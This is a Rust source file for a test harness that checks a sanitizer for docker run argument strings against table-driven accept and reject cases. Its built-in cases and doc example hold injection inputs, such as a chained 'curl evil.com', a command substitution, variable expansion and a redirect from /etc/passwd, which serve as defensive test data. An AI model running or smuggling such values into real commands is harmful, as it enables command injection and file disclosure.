//! Validation case harness
//!
//! Runs a table of `(input, expected verdict)` cases through the sanitizer
//! and tallies the results. Case files are TOML:
//!
//! ```toml
//! [[case]]
//! name = "semicolon"
//! input = "--memory=512m; curl evil.com"
//! expect = "reject"
//! rule = "command-chaining"
//! ```

use crate::error::{RunguardError, RunguardResult};
use crate::sanitizer::{self, Rule, Verdict};
use serde::{Deserialize, Serialize};
use std::path::Path;
use tokio::fs;
use tracing::debug;

/// Expected verdict kind for a case
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Expectation {
    Accept,
    Reject,
}

/// A single validation case
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Case {
    /// Optional label shown in reports (defaults to the input)
    #[serde(default)]
    pub name: Option<String>,
    /// Raw docker run argument string
    pub input: String,
    /// Expected verdict kind
    pub expect: Expectation,
    /// Expected rejecting rule, checked only when set
    #[serde(default)]
    pub rule: Option<Rule>,
}

impl Case {
    pub fn accept(input: &str) -> Self {
        Self {
            name: None,
            input: input.to_string(),
            expect: Expectation::Accept,
            rule: None,
        }
    }

    pub fn reject(input: &str, rule: Rule) -> Self {
        Self {
            name: None,
            input: input.to_string(),
            expect: Expectation::Reject,
            rule: Some(rule),
        }
    }

    /// Label used in reports
    pub fn label(&self) -> &str {
        self.name.as_deref().unwrap_or(&self.input)
    }

    /// Whether `verdict` satisfies this case
    pub fn is_satisfied_by(&self, verdict: &Verdict) -> bool {
        match (self.expect, verdict) {
            (Expectation::Accept, Verdict::Accept) => true,
            (Expectation::Reject, Verdict::Reject { rule, .. }) => {
                self.rule.is_none_or(|expected| expected == *rule)
            }
            _ => false,
        }
    }
}

/// A case together with the verdict it produced
#[derive(Debug, Clone)]
pub struct CaseOutcome {
    pub case: Case,
    pub actual: Verdict,
    pub passed: bool,
}

impl CaseOutcome {
    /// What the case expected, e.g. `accept` or `reject (redirection)`
    pub fn expected(&self) -> String {
        match (self.case.expect, self.case.rule) {
            (Expectation::Accept, _) => "accept".to_string(),
            (Expectation::Reject, Some(rule)) => format!("reject ({})", rule.id()),
            (Expectation::Reject, None) => "reject".to_string(),
        }
    }
}

/// Tally of one harness run
#[derive(Debug, Clone, Default)]
pub struct HarnessSummary {
    pub run: usize,
    pub passed: usize,
    pub failed: usize,
    /// Every case in input order
    pub outcomes: Vec<CaseOutcome>,
}

impl HarnessSummary {
    pub fn all_passed(&self) -> bool {
        self.failed == 0
    }

    pub fn failures(&self) -> impl Iterator<Item = &CaseOutcome> {
        self.outcomes.iter().filter(|o| !o.passed)
    }

    /// Turn a summary with failures into [`RunguardError::CasesFailed`]
    pub fn into_result(self) -> RunguardResult<Self> {
        if self.all_passed() {
            Ok(self)
        } else {
            Err(RunguardError::CasesFailed {
                run: self.run,
                failed: self.failed,
            })
        }
    }

    fn record(&mut self, case: &Case, actual: Verdict) {
        let passed = case.is_satisfied_by(&actual);
        self.run += 1;
        if passed {
            self.passed += 1;
        } else {
            self.failed += 1;
        }
        self.outcomes.push(CaseOutcome {
            case: case.clone(),
            actual,
            passed,
        });
    }
}

#[derive(Debug, Deserialize)]
struct CaseFile {
    #[serde(default, rename = "case")]
    cases: Vec<Case>,
}

/// Built-in scenarios covering each rule and the common accepted forms
pub fn builtin_cases() -> Vec<Case> {
    vec![
        Case::accept(""),
        Case::accept("--memory=512m --cpu-shares=512"),
        Case::accept("--log-driver=json-file"),
        Case::accept("-m 512m"),
        Case::reject("--memory=512m; curl evil.com", Rule::CommandChaining),
        Case::reject("--memory=$(curl evil.com)", Rule::CommandChaining),
        Case::reject("--env=${HOME}/malicious", Rule::VariableExpansion),
        Case::reject("--memory < /etc/passwd", Rule::Redirection),
        Case::reject("--mem@ry=512m", Rule::MalformedFlag),
    ]
}

/// Load cases from a TOML case file
pub async fn load_cases(path: &Path) -> RunguardResult<Vec<Case>> {
    let content = fs::read_to_string(path)
        .await
        .map_err(|e| RunguardError::io(format!("reading cases from {}", path.display()), e))?;

    let file: CaseFile = toml::from_str(&content).map_err(|e| RunguardError::CaseFileInvalid {
        path: path.to_path_buf(),
        reason: e.to_string(),
    })?;

    if file.cases.is_empty() {
        return Err(RunguardError::CaseFileInvalid {
            path: path.to_path_buf(),
            reason: "no [[case]] entries".to_string(),
        });
    }

    if let Some(case) = file
        .cases
        .iter()
        .find(|c| c.expect == Expectation::Accept && c.rule.is_some())
    {
        return Err(RunguardError::CaseFileInvalid {
            path: path.to_path_buf(),
            reason: format!("case '{}' expects accept but names a rule", case.label()),
        });
    }

    debug!("Loaded {} cases from {}", file.cases.len(), path.display());
    Ok(file.cases)
}

/// Run every case and return the tally
pub fn run_cases(cases: &[Case]) -> HarnessSummary {
    let mut summary = HarnessSummary::default();
    for case in cases {
        let verdict = sanitizer::validate(&case.input);
        debug!(case = case.label(), %verdict, "case evaluated");
        summary.record(case, verdict);
    }
    summary
}
